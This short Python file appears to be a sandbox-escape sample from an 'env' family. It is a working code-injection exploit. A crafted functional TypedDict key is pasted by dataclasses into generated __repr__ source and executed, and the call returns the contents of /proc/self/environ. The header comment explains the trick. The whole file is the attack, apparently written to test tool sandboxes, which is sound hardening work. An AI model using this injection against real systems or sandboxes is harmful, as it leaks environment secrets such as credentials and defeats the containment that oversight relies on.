# family: env
# Escape: functional TypedDict keys are arbitrary strings stored in __annotations__; dataclasses pastes them into
# the source text of __repr__ and exec()s it. The key turns the repr into a read of /proc/self/environ,
# returned as the repr string.
import dataclasses
import typing


def tool() -> str:
    Row = typing.TypedDict("Row", {"copy(),open('/proc/self/environ').read()": str})
    dataclasses.dataclass(init=False, eq=False)(Row)
    return Row.__repr__({})
